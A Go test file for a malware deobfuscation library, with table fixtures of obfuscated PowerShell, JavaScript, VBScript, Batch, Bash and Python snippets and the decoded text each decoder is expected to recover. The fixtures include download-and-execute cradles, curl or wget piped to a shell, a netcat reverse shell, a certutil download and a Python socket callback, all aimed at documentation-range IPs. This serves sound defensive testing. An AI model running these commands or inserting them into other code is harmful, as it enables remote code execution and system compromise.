package decode

import (
	"strings"
	"testing"

	"github.com/automaldesc/automaldesc/analysis/lang"
)

// fixture is one decoder expectation: some layer whose Method is method (a
// decoder id or a "+"-joined rewrite pass) holds text (exactly, or as a
// substring when contains is set), hangs off the given parent, and its span
// selects spanText in the parent.
type fixture struct {
	name     string
	lang     lang.Language
	input    string
	method   string
	parent   int
	text     string
	contains bool
	spanText string        // "" skips the span check
	note     string        // substring of the layer's Note
	lang2    lang.Language // expected layer language (Unknown skips the check)
	wantNone bool          // the decoder must not fire (false-positive guard)
}

const cradle = "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.10/stage2.ps1')"

// fixtures returns the table keyed by decoder id. Every registered decoder
// must have at least one positive fixture (TestRegistry checks).
func fixtures(t testing.TB) map[string][]fixture {
	psB64 := b64u16(cradle)
	gz := b64bytes(gzipBytes(t, cradle))
	df := b64bytes(deflateBytes(t, "Write-Output 'deflate stage'; Start-Process calc.exe"))
	zl := b64bytes(zlibBytes(t, "import socket\nsocket.create_connection(('198.51.100.7', 4444))\n"))
	return map[string][]fixture{
		"ps.encodedcommand": {
			{name: "enc", lang: lang.PowerShell, input: "powershell.exe -NoP -W Hidden -enc " + psB64, method: "ps.encodedcommand", text: cradle, spanText: psB64},
			{name: "e abbreviation", lang: lang.PowerShell, input: "pwsh -e " + psB64, method: "ps.encodedcommand", text: cradle, spanText: psB64},
			{name: "ec alias", lang: lang.PowerShell, input: "powershell -ec " + psB64, method: "ps.encodedcommand", text: cradle, spanText: psB64},
			{name: "encodedc", lang: lang.PowerShell, input: "powershell -EncodedC " + psB64, method: "ps.encodedcommand", text: cradle, spanText: psB64},
			{name: "slash full", lang: lang.PowerShell, input: "powershell /EncodedCommand " + psB64, method: "ps.encodedcommand", text: cradle, spanText: psB64},
			{name: "from javascript run", lang: lang.JavaScript, input: `sh.Run("powershell -en ` + psB64 + `", 0);`, method: "ps.encodedcommand", text: cradle, spanText: psB64},
			{name: "not execution policy", lang: lang.PowerShell, input: "powershell -ex bypass -file " + psB64, method: "ps.encodedcommand", wantNone: true},
		},
		"ps.command": {
			{name: "quoted", lang: lang.Batch, input: "powershell.exe -NoP -W Hidden -c \"Get-Process | Out-File $env:TEMP\\p.txt\"\r\n", method: "ps.command", text: "Get-Process | Out-File $env:TEMP\\p.txt", spanText: "Get-Process | Out-File $env:TEMP\\p.txt"},
			{name: "escaped quotes", lang: lang.Batch, input: `powershell -Command "Write-Host \"hi there\""`, method: "ps.command", text: `Write-Host "hi there"`},
			{name: "unquoted", lang: lang.Batch, input: "powershell -nop -c Get-ChildItem C:\\Users\n", method: "ps.command", text: "Get-ChildItem C:\\Users"},
			{name: "not a command", lang: lang.Batch, input: "powershell -File run.ps1\n", method: "ps.command", wantNone: true},
		},
		"ps.gzip": {
			{name: "gzipstream", lang: lang.PowerShell, input: "$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String('" + gz + "'));IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()", method: "ps.gzip", text: cradle, spanText: gz},
		},
		"ps.deflate": {
			{name: "deflatestream", lang: lang.PowerShell, input: "$d = New-Object IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String(\"" + df + "\"), [IO.Compression.CompressionMode]::Decompress)", method: "ps.deflate", text: "Write-Output 'deflate stage'; Start-Process calc.exe", spanText: df},
		},
		"ps.frombase64": {
			{name: "unicode getstring", lang: lang.PowerShell, input: "$c = [Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('" + psB64 + "'))", method: "ps.frombase64", text: cradle, spanText: psB64},
			{name: "utf8 getstring", lang: lang.PowerShell, input: "[System.Text.Encoding]::UTF8.GetString([System.Convert]::FromBase64String('" + b64("Start-Process notepad.exe") + "'))", method: "ps.frombase64", text: "Start-Process notepad.exe", spanText: b64("Start-Process notepad.exe")},
		},
		"ps.charcodes": {
			{name: "char array join", lang: lang.PowerShell, input: "iex (-join [char[]](87,114,105,116,101,45,72,111,115,116,32,104,105))", method: "ps.charcodes", text: "Write-Host hi", spanText: "(87,114,105,116,101,45,72,111,115,116,32,104,105)"},
			{name: "pipeline cast", lang: lang.PowerShell, input: "(83,116,97,114,116,45,83,108,101,101,112,32,49) | % {[char]$_}", method: "ps.charcodes", text: "Start-Sleep 1", spanText: "(83,116,97,114,116,45,83,108,101,101,112,32,49)"},
			{name: "binary with toint16", lang: lang.PowerShell, input: "((1010111,1110010,1101001,1110100,1100101) | foreach { ([Convert]::ToInt16(($_.ToString()), 2) -as [char]) }) -join ''", method: "ps.charcodes", text: "Write", spanText: "(1010111,1110010,1101001,1110100,1100101)"},
			{name: "delimited hex split", lang: lang.PowerShell, input: "-join ('57q72P69z74,65q2dP48z6f,73q74' .Split('qPz,') | ForEach { ([Convert]::ToInt16(($_.ToString()), 16) -as [char]) })", method: "ps.charcodes", text: "Write-Host", spanText: "'57q72P69z74,65q2dP48z6f,73q74'"},
			{name: "bxor key", lang: lang.PowerShell, input: "-join ('" + xorCodes("Write-Host stage", 0x3B, "k") + "' -split 'k' | % {[char]($_ -bxor '0x3B')})", method: "ps.charcodes", text: "Write-Host stage", spanText: "'" + xorCodes("Write-Host stage", 0x3B, "k") + "'"},
			{name: "plain numbers without char", lang: lang.PowerShell, input: "$ports = (80,443,8080,8443)", method: "ps.charcodes", wantNone: true},
		},
		"ps.bxor": {
			{name: "base64 blob", lang: lang.PowerShell, input: "$b=[Convert]::FromBase64String('" + b64bytes(xorBytes("Invoke-WebRequest http://198.51.100.20/a", 0x41)) + "');for($i=0;$i -lt $b.Length;$i++){$b[$i]=$b[$i] -bxor 0x41}", method: "ps.bxor", text: "Invoke-WebRequest http://198.51.100.20/a"},
			{name: "byte array", lang: lang.PowerShell, input: "$k = [byte[]](34,61,56,61,55,43); $k | % { $_ -bxor 81 }", method: "ps.bxor", text: "slilfz"},
		},
		"ps.reverse": {
			{name: "array reverse", lang: lang.PowerShell, input: "$s = ')''1sp.2egats/01.2.0.291//:ptth''(gnirtSdaolnwoD.)tneilCbeW.teN tcejbO-weN( XEI'; $c = $s.ToCharArray(); [array]::Reverse($c); -join $c | iex", method: "ps.reverse", text: cradle},
		},
		"ps.iex": {
			{name: "iex literal", lang: lang.PowerShell, input: "IEX 'Write-Host stage; Get-Date'", method: "ps.iex", text: "Write-Host stage; Get-Date", spanText: "'Write-Host stage; Get-Date'"},
			{name: "piped", lang: lang.PowerShell, input: "\"Get-Process | Stop-Process\" | Invoke-Expression", method: "ps.iex", text: "Get-Process | Stop-Process", spanText: "\"Get-Process | Stop-Process\""},
			{name: "obfuscated iex name", lang: lang.PowerShell, input: "&( $pshome[4]+$pshome[30]+'x') ('Set-Item Env:A 1; Get-Item Env:A')", method: "ps.iex", text: "Set-Item Env:A 1; Get-Item Env:A"},
		},
		"ps.backtick": {
			{name: "ticks in words", lang: lang.PowerShell, input: "I`E`X (N`ew-Obj`ect Net.WebClient)", method: "ps.backtick", text: "IEX (New-Object Net.WebClient)", spanText: "I`E`X (N`ew-Obj`ect Net.WebClient)"},
			{name: "escapes kept", lang: lang.PowerShell, input: "Write-Host \"a`tb`n\"", method: "ps.backtick", wantNone: true},
		},
		"ps.charcast": {
			{name: "casts", lang: lang.PowerShell, input: "& ([char]73+[char]69+[char]88) $x", method: "ps.charcast+ps.concat+ps.parens", text: "& 'IEX' $x"},
		},
		"ps.concat": {
			{name: "split words", lang: lang.PowerShell, input: "$u = 'http://192.0.2.10/'+'pay'+\"load.ps1\"; (New-Object Net.WebClient).('Down'+'loadString')($u)", method: "ps.concat+ps.parens", text: "$u = 'http://192.0.2.10/payload.ps1'; (New-Object Net.WebClient).'DownloadString'($u)"},
			{name: "sentences are not obfuscation", lang: lang.PowerShell, input: "Write-Host ('Hello ' + 'world')", method: "ps.concat", wantNone: true},
		},
		"ps.format": {
			{name: "reordered", lang: lang.PowerShell, input: "$t = (\"{2}{0}{1}\" -f 'ject','.Net.WebClient','New-Ob')", method: "ps.format+ps.parens", text: "$t = 'New-Object.Net.WebClient'"},
			{name: "nested with char", lang: lang.PowerShell, input: "$p = ((\"{1}{0}\" -f 'UIf.bin','{0}temp')) -f [char]92", method: "ps.charcast+ps.format+ps.parens", text: "$p = '\\tempUIf.bin'"},
		},
		"ps.replace": {
			{name: "method", lang: lang.PowerShell, input: "$a = 'DowZZloadStriZZg'.Replace('ZZ','n')", method: "ps.replace", text: "$a = 'DownloadString'"},
			{name: "operator", lang: lang.PowerShell, input: "$a = 'Inv#ke-Expressi#n' -replace '#','o'", method: "ps.replace", text: "$a = 'Invoke-Expression'"},
		},
		"ps.join": {
			{name: "string join", lang: lang.PowerShell, input: "$x = [string]::Join('', ('Inv','oke','-Expression'))", method: "ps.join", text: "$x = 'Invoke-Expression'"},
			{name: "binary join", lang: lang.PowerShell, input: "$x = ('Net','WebClient') -join '.'", method: "ps.join", text: "$x = 'Net.WebClient'"},
		},
		"ps.parens": {
			{name: "with replace", lang: lang.PowerShell, input: "$a = ('xyz-Process').Replace('xyz','Start')", method: "ps.parens+ps.replace", text: "$a = 'Start-Process'"},
		},
		"js.eval": {
			{name: "eval", lang: lang.JavaScript, input: "eval('var x = new ActiveXObject(\"Msxml2.XMLHTTP\");')", method: "js.eval", text: "var x = new ActiveXObject(\"Msxml2.XMLHTTP\");", spanText: "'var x = new ActiveXObject(\"Msxml2.XMLHTTP\");'"},
			{name: "new function body", lang: lang.JavaScript, input: "var f = new Function('a', 'return a + 1;');", method: "js.eval", text: "return a + 1;"},
			{name: "settimeout", lang: lang.JavaScript, input: "setTimeout(\"document.location='http://203.0.113.9/'\", 100);", method: "js.eval", text: "document.location='http://203.0.113.9/'"},
			{name: "activex progid", lang: lang.JavaScript, input: "var sh = new ActiveXObject('WScript.Shell');", method: "js.eval", text: "WScript.Shell"},
			{name: "wscript run", lang: lang.JavaScript, input: "sh.Run('cmd /c whoami > %TEMP%\\\\o.txt', 0, true);", method: "js.eval", text: "cmd /c whoami > %TEMP%\\o.txt"},
			{name: "plain function declaration", lang: lang.JavaScript, input: "function greet() { return 'hello there'; }", method: "js.eval", wantNone: true},
		},
		"js.escape": {
			{name: "hex and unicode", lang: lang.JavaScript, input: `var u = "\x68\x74\x74\x70\u003a\u002f\u002f\u{31}92.0.2.1\101";`, method: "js.escape", text: `var u = "http://192.0.2.1A";`},
		},
		"js.fromcharcode": {
			{name: "numbers", lang: lang.JavaScript, input: "var p = String.fromCharCode(87,83,99,114,105,112,116,0x2e,83,104,101,108,108);", method: "js.fromcharcode", text: `var p = "WScript.Shell";`},
		},
		"js.unescape": {
			{name: "percent u", lang: lang.JavaScript, input: "document.write(unescape('%3Cscript%20src%3D%22http%3A//203.0.113.5/x.js%22%3E%u0041'));", method: "js.unescape", text: `document.write("<script src=\"http://203.0.113.5/x.js\">A");`},
			{name: "decodeURIComponent", lang: lang.JavaScript, input: "var c = decodeURIComponent('%63%6D%64%2E%65%78%65');", method: "js.unescape", text: `var c = "cmd.exe";`},
		},
		"js.atob": {
			{name: "eval atob", lang: lang.JavaScript, input: "eval(atob('" + b64("alert('stage two')") + "'));", method: "js.atob", text: `eval("alert('stage two')");`},
		},
		"js.stringarray": {
			{name: "lookup", lang: lang.JavaScript, input: "var _0x3a1f=['WScript.Shell','Run','http://198.51.100.3/a.exe'];var s=new ActiveXObject(_0x3a1f[0]);s[_0x3a1f[0x1]](_0x3a1f[2]);", method: "js.stringarray", text: `var _0x3a1f=['WScript.Shell','Run','http://198.51.100.3/a.exe'];var s=new ActiveXObject("WScript.Shell");s["Run"]("http://198.51.100.3/a.exe");`},
		},
		"js.reverse": {
			{name: "split reverse join", lang: lang.JavaScript, input: `var o = "tcejbOetaerC".split("").reverse().join("");`, method: "js.reverse", text: `var o = "CreateObject";`},
		},
		"js.concat": {
			{name: "split words", lang: lang.JavaScript, input: `var a = "WScr" + 'ipt.Sh' + "ell";`, method: "js.concat", text: `var a = "WScript.Shell";`},
		},
		"vbs.execute": {
			{name: "execute", lang: lang.VBScript, input: `Execute "MsgBox ""hi"": WScript.Quit"`, method: "vbs.execute", text: `MsgBox "hi": WScript.Quit`, spanText: `"MsgBox ""hi"": WScript.Quit"`},
			{name: "executeglobal parens", lang: lang.VBScript, input: `ExecuteGlobal("Dim x : x = 1")`, method: "vbs.execute", text: "Dim x : x = 1"},
		},
		"vbs.chr": {
			{name: "chr chain", lang: lang.VBScript, input: `Set o = CreateObject(Chr(87) & ChrW(83) & Chr(&H63) & Chr(100+14) & "ipt.Shell")`, method: "vbs.chr+vbs.concat", text: `Set o = CreateObject("WScript.Shell")`},
		},
		"vbs.strreverse": {
			{name: "reverse", lang: lang.VBScript, input: `Set o = CreateObject(StrReverse("llehS.tpircSW"))`, method: "vbs.strreverse", text: `Set o = CreateObject("WScript.Shell")`},
		},
		"vbs.replace": {
			{name: "replace", lang: lang.VBScript, input: `u = Replace("hxxp://192.0.2.44/p.exe", "xx", "tt")`, method: "vbs.replace", text: `u = "http://192.0.2.44/p.exe"`},
		},
		"vbs.concat": {
			{name: "continuation", lang: lang.VBScript, input: "s = \"pow\" & _\n    \"ershell -nop\"", method: "vbs.concat", text: `s = "powershell -nop"`},
		},
		"batch.powershell-enc": {
			{name: "bat hand-off", lang: lang.Batch, input: "@echo off\r\npowershell -NoProfile -enc " + psB64 + "\r\n", method: "batch.powershell-enc", text: cradle, spanText: psB64},
		},
		"batch.cmd": {
			{name: "quoted", lang: lang.Batch, input: "cmd.exe /v:on /c \"set x=calc&& call %x%.exe\"\r\n", method: "batch.cmd", text: "set x=calc&& call %x%.exe", spanText: "set x=calc&& call %x%.exe"},
		},
		"batch.caret": {
			{name: "carets", lang: lang.Batch, input: "p^o^w^e^r^s^h^e^l^l -c \"Get-Date\"", method: "batch.caret", text: "powershell -c \"Get-Date\""},
		},
		"batch.set": {
			{name: "substrings and concatenation", lang: lang.Batch, input: "@echo off\nset a=powe\nset b=rshell\nset c=XXcalcYY\n%a%%b% -c %c:~2,4%\n%COMSPEC:~-7,3% /c echo %c:XX=%\n", method: "batch.set", text: "@echo off\nset a=powe\nset b=rshell\nset c=XXcalcYY\npowershell -c calc\ncmd /c echo calcYY\n"},
			{name: "delayed expansion", lang: lang.Batch, input: "setlocal enabledelayedexpansion\nset \"p=cer\"\nset \"q=tutil\"\n!p!!q! -urlcache -f http://192.0.2.8/x x\n", method: "batch.set", text: "setlocal enabledelayedexpansion\nset \"p=cer\"\nset \"q=tutil\"\ncertutil -urlcache -f http://192.0.2.8/x x\n"},
			{name: "plain use is not obfuscation", lang: lang.Batch, input: "set OUT=C:\\logs\ncopy a.txt %OUT%\\a.txt\n", method: "batch.set", wantNone: true},
		},
		"bash.base64": {
			{name: "echo pipe sh", lang: lang.Bash, input: "echo " + b64("curl -s http://192.0.2.50/i.sh | sh") + " | base64 -d | bash", method: "bash.base64", text: "curl -s http://192.0.2.50/i.sh | sh", spanText: b64("curl -s http://192.0.2.50/i.sh | sh")},
			{name: "long option", lang: lang.Bash, input: "echo '" + b64("wget -q http://192.0.2.51/b") + "' | base64 --decode | sh", method: "bash.base64", text: "wget -q http://192.0.2.51/b"},
			{name: "openssl", lang: lang.Bash, input: "printf %s " + b64("id; uname -a") + " | openssl enc -base64 -d | sh", method: "bash.base64", text: "id; uname -a"},
			{name: "openssl base64", lang: lang.Bash, input: "echo " + b64("id; uname -a; hostname") + " | openssl base64 -d", method: "bash.base64", text: "id; uname -a; hostname"},
			{name: "here string", lang: lang.Bash, input: "bash <(base64 -d <<< \"" + b64("nc 192.0.2.52 4444 -e /bin/sh") + "\")", method: "bash.base64", text: "nc 192.0.2.52 4444 -e /bin/sh"},
		},
		"bash.printf": {
			{name: "printf hex", lang: lang.Bash, input: `printf '\x63\x75\x72\x6c 192.0.2.9' | sh`, method: "bash.printf", text: "curl 192.0.2.9"},
			{name: "echo -e octal", lang: lang.Bash, input: `echo -e "\167\147\145\164 x"`, method: "bash.printf", text: "wget x"},
		},
		"bash.eval": {
			{name: "eval", lang: lang.Bash, input: `eval "rm -rf /tmp/.x; touch /tmp/.y"`, method: "bash.eval", text: "rm -rf /tmp/.x; touch /tmp/.y"},
			{name: "sh -c", lang: lang.Bash, input: `sh -c 'id > /tmp/o'`, method: "bash.eval", text: "id > /tmp/o"},
		},
		"bash.rev": {
			{name: "echo rev", lang: lang.Bash, input: `echo 'hs | 2.2.0.291 lruc' | rev | sh`, method: "bash.rev", text: "curl 192.0.2.2 | sh", lang2: lang.Bash},
		},
		"bash.ansic": {
			{name: "ansi-c", lang: lang.Bash, input: `$'\x63\x75\x72\x6c' http://192.0.2.3/`, method: "bash.ansic", text: `'curl' http://192.0.2.3/`},
		},
		"bash.vars": {
			{name: "adjacent", lang: lang.Bash, input: "a=cu;b=rl\n$a$b http://192.0.2.4/x\n", method: "bash.vars", text: "a=cu;b=rl\ncurl http://192.0.2.4/x\n"},
		},
		"py.exec": {
			{name: "zlib base64", lang: lang.Python, input: "import zlib,base64\nexec(zlib.decompress(base64.b64decode('" + zl + "')))", method: "py.exec", text: "import socket\nsocket.create_connection(('198.51.100.7', 4444))\n", note: "base64.b64decode -> zlib.decompress"},
			{name: "rot13 and reverse", lang: lang.Python, input: "import codecs\nexec(codecs.decode(')(qyebj_byyru'[::-1], 'rot13'))", method: "py.exec", text: "hello_world()"},
			{name: "dunder import b32", lang: lang.Python, input: "eval(__import__('base64').b32decode('OBZGS3TUFARGEMZSEBZXIYLHMURCS==='))", method: "py.exec", text: "print(\"b32 stage\")"},
			{name: "b85", lang: lang.Python, input: "exec(base64.b85decode('aB^vGbSNTXI5i-1bYW*@A}I'))", method: "py.exec", text: "print(\"b85 stage\")"},
			{name: "a85", lang: lang.Python, input: "exec(base64.a85decode(b'E,oZ1F=8>A3&Mh\"FCAfn+t3'))", method: "py.exec", text: "print(\"a85 stage\")"},
			{name: "bz2", lang: lang.Python, input: "exec(bz2.decompress(base64.b64decode('QlpoOTFBWSZTWTKiOS0AAArZgAAQWGEQADai3DAgADFGjIGjTI0KAaGhkepofSnUY1iindrU5ySkiVFpmHyYMj2+LuSKcKEgZURyWg==')))", method: "py.exec", text: "import os\nos.system(\"id\")  # bz2 stage\n"},
			{name: "lzma noted", lang: lang.Python, input: "exec(lzma.decompress(base64.b64decode('/Td6WFoAAATm1rRGAgAhARYAAAB0L+WjAQATcHJpbnQoImx6bWEgc3RhZ2UiKQoA/UkfkVF9Y78AASwU+AptAx+2830BAAAAAARZWg==')))", method: "py.exec", note: "lzma"},
		},
		"py.base64": {
			{name: "standalone", lang: lang.Python, input: "cmd = base64.b64decode('" + b64("curl http://192.0.2.77/x | sh") + "').decode()", method: "py.base64", text: "curl http://192.0.2.77/x | sh"},
		},
		"py.decompress": {
			{name: "zlib", lang: lang.Python, input: "src = zlib.decompress(base64.b64decode('" + zl + "'))", method: "py.decompress", text: "import socket\nsocket.create_connection(('198.51.100.7', 4444))\n"},
		},
		"py.codecs": {
			{name: "rot13", lang: lang.Python, input: "s = codecs.decode('vzcbeg bf; bf.flfgrz(\"vq\")', 'rot_13')", method: "py.codecs", text: "import os; os.system(\"id\")"},
		},
		"py.hex": {
			{name: "fromhex", lang: lang.Python, input: "c = bytes.fromhex('696d706f7274206f73').decode()", method: "py.hex", text: "import os"},
		},
		"py.marshal": {
			{name: "marker", lang: lang.Python, input: "import marshal,base64\nexec(marshal.loads(base64.b64decode('YwAAAAAAAAAAAAAAAAAAAAAAAAAA')))", method: "py.marshal", note: "marshal.loads payload not decoded"},
		},
		"generic.base64": {
			{name: "blob in a comment", lang: lang.Bash, input: "# payload: " + b64("wget http://192.0.2.60/m -O /tmp/m; chmod +x /tmp/m") + "\n", method: "generic.base64", text: "wget http://192.0.2.60/m -O /tmp/m; chmod +x /tmp/m"},
			{name: "gzip blob", lang: lang.Unknown, input: "data = \"" + gz + "\"", method: "generic.base64", text: cradle},
			{name: "hash is not base64", lang: lang.Bash, input: "sha=9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08\n", method: "generic.base64", wantNone: true},
			{name: "random identifier", lang: lang.JavaScript, input: "var thisIsAVeryLongIdentifierNameThatGoesOnAndOn2024 = 1;", method: "generic.base64", wantNone: true},
		},
	}
}

// xorCodes renders s xored with k as decimal codes joined by sep.
func xorCodes(s string, k byte, sep string) string {
	var parts []string
	for _, c := range xorBytes(s, k) {
		parts = append(parts, itoa(int(c)))
	}
	return strings.Join(parts, sep)
}

func xorBytes(s string, k byte) []byte {
	b := []byte(s)
	for i := range b {
		b[i] ^= k
	}
	return b
}

func TestDecoders(t *testing.T) {
	for id, fs := range fixtures(t) {
		for _, f := range fs {
			t.Run(id+"/"+f.name, func(t *testing.T) {
				layers := decodeT(t, f.input, f.lang)
				checkInvariants(t, layers, DefaultLimits(len(f.input)))
				if f.wantNone {
					for _, l := range layers[1:] {
						if hasMethod(l.Method, id) {
							t.Fatalf("got a %s layer %q, want none", l.Method, l.Text)
						}
					}
					return
				}
				var got *Layer
				for i := range layers[1:] {
					l := &layers[i+1]
					if l.Method != f.method {
						continue
					}
					if f.text == "" || l.Text == f.text || f.contains && strings.Contains(l.Text, f.text) {
						got = l
						break
					}
				}
				if got == nil {
					t.Fatalf("got no %s layer with text %q; layers:\n%s", f.method, f.text, dump(layers))
				}
				if got.Parent != f.parent {
					t.Errorf("parent: got %d, want %d", got.Parent, f.parent)
				}
				if f.spanText != "" {
					p := layers[got.Parent].Text
					if s := p[got.Span.Start:got.Span.End]; s != f.spanText {
						t.Errorf("span text: got %q, want %q", s, f.spanText)
					}
				}
				if f.note != "" && !strings.Contains(got.Note, f.note) {
					t.Errorf("note: got %q, want it to contain %q", got.Note, f.note)
				}
				if f.lang2 != lang.Unknown && got.Language != f.lang2 {
					t.Errorf("language: got %v, want %v", got.Language, f.lang2)
				}
			})
		}
	}
}

func dump(layers []Layer) string {
	var b strings.Builder
	for _, l := range layers {
		txt := l.Text
		if len(txt) > 200 {
			txt = txt[:200] + "..."
		}
		b.WriteString(strings.Join([]string{"  #", itoa(l.Index), " <-", itoa(l.Parent), " ", l.Method, " [", l.Language.String(), "] ", l.Note, ": ", txt, "\n"}, ""))
	}
	return b.String()
}

func itoa(i int) string {
	if i < 0 {
		return "-" + itoa(-i)
	}
	if i < 10 {
		return string(rune('0' + i))
	}
	return itoa(i/10) + string(rune('0'+i%10))
}
